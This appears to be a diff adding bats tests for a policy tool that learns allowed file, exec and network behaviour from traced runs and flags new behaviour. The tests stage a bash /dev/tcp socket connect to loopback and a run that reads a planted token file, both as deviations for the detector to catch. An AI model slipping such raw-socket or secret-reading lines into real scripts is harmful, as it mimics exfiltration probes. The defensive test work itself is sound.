+	! grep -q '93\.184\.216\.34' h.rules
+	gh-policy -q h.rules h.json
+	# the twin: another receipt fails them
+	run --separate-stderr gh-policy h.rules "$F/clean.json"
+	[ "$status" -eq 1 ]
+}
+
+# learnjob N [VAR=VALUE...]: trace one run of the small job in ws/ into rN.json
+learnjob() {
+	local n=$1
+	shift
+	(cd ws && env "$@" gh-trace -o "../ev$n.ndjson" -- sh job.sh) 2> "trace$n.err" || true
+	gh-aggregate "ev$n.ndjson" > "r$n.json"
+	[ "$(jq -r .observation_mode "r$n.json")" = ebpf ] || skip "audit unavailable here"
+}
+
+@test "traced: --learn from three runs; a fourth that does something new fails" {
+	[ -x "$GH_BIN/gh-trace" ] || skip "bin/gh-trace is not built"
+	[ "$(id -u)" -eq 0 ] || skip "tracing needs root"
+	mkdir ws
+	printf 'b\na\n' > ws/input.txt
+	echo 'token=5ecret' > secret.txt
+	# a temporary directory of its own, an output name of its own each run,
+	# a connect to a loopback port (refused: nothing listens there)
+	cat > ws/job.sh <<'EOF'
+set -e
+tmp=$(mktemp -d /tmp/gh-learn-test.XXXXXX)
+sort "${IN:-input.txt}" > "$tmp/sorted"
+mkdir -p out
+cp "$tmp/sorted" "${OUT:-out/run-$$.txt}"
+bash -c 'echo hi > /dev/tcp/127.0.0.1/'"${PORT:-47811}" 2>/dev/null || true
+rm -rf "$tmp"
+EOF
+	for n in 1 2 3; do learnjob $n; done
+	gh-policy --learn r1.json r2.json r3.json > learned.rules
+	cat learned.rules
+	for n in 1 2 3; do gh-policy -q learned.rules r$n.json; done
+	# the runs' own names are generalized, the output directory folded
+	grep -qx 'allow write /tmp/\*/sorted  *# 3 runs, 3 entries' learned.rules
+	grep -qx 'allow write \$CWD/out/\*  *# 3 runs, 3 entries' learned.rules
+	grep -qx 'allow exec /usr/bin/sort  *# 3 runs, 3 entries' learned.rules
+	grep -qx 'allow connect 127\.0\.0\.1:47811 proto=tcp result=failed  *# 3 runs, 3 entries' learned.rules
+	! grep -q 'gh-learn-test\.' learned.rules
+	# a fourth ordinary run passes
+	learnjob 4
+	run --separate-stderr gh-policy learned.rules r4.json
+	[ "$status" -eq 0 ]
+	[ -z "$output" ]
+	# ... one that reads a new secret does not
+	learnjob 5 IN=../secret.txt
+	run --separate-stderr gh-policy learned.rules r5.json
+	[ "$status" -eq 1 ]
+	grep -qx "learned\.rules:[0-9]*: default deny read $PWD/secret\.txt by pid [0-9]* (sort \.\./secret\.txt)" <<<"$output"
+	[ "${#lines[@]}" -eq 2 ]
+	# ... nor one that writes outside the workspace
+	learnjob 6 OUT=../outside.txt
+	run --separate-stderr gh-policy learned.rules r6.json
+	[ "$status" -eq 1 ]
+	grep -qx "learned\.rules:[0-9]*: default deny write $PWD/outside\.txt \[op=create\] by pid [0-9]* (cp /tmp/gh-learn-test\..* \.\./outside\.txt)" <<<"$output"
+	# (cp first looks for the file it will create: a read attempt)
+	grep -qx "learned\.rules:[0-9]*: default deny read $PWD/outside\.txt \[result=ENOENT\] by pid [0-9]* (cp .*)" <<<"$output"
+	[ "${#lines[@]}" -eq 3 ]
+	# ... nor one that contacts a new loopback peer
+	learnjob 7 PORT=47812
+	run --separate-stderr gh-policy learned.rules r7.json
+	[ "$status" -eq 1 ]
+	grep -qx 'learned\.rules:[0-9]*: default deny connect 127\.0\.0\.1:47812 \[proto=tcp result=refused\] by pid [0-9]* (bash -c echo hi > /dev/tcp/127\.0\.0\.1/47812)' <<<"$output"
+	[ "${#lines[@]}" -eq 2 ]
+	# thresholds: with --fold-runs 4 three runs do not fold out/, and the
+	# fourth run's new name fails
+	gh-policy --learn --fold-runs 4 r1.json r2.json r3.json > strict.rules
+	! grep -q 'out/\*' strict.rules
+	[ "$(grep -c '^allow write \$CWD/out/run-[0-9]*\.txt ' strict.rules)" -eq 3 ]
+	run --separate-stderr gh-policy strict.rules r4.json
+	[ "$status" -eq 1 ]
+	grep -q '^strict\.rules:[0-9]*: default deny write .*/ws/out/run-[0-9]*\.txt \[op=create\]' <<<"$output"
+	# --fold-files 2: the workspace's two files read are one glob
+	gh-policy --learn --fold-files 2 r1.json r2.json r3.json > loose.rules
+	grep -qx 'allow read \$CWD/\*  *# 3 runs, 6 entries' loose.rules
+	! grep -q '^allow read \$CWD/\*' learned.rules
 }
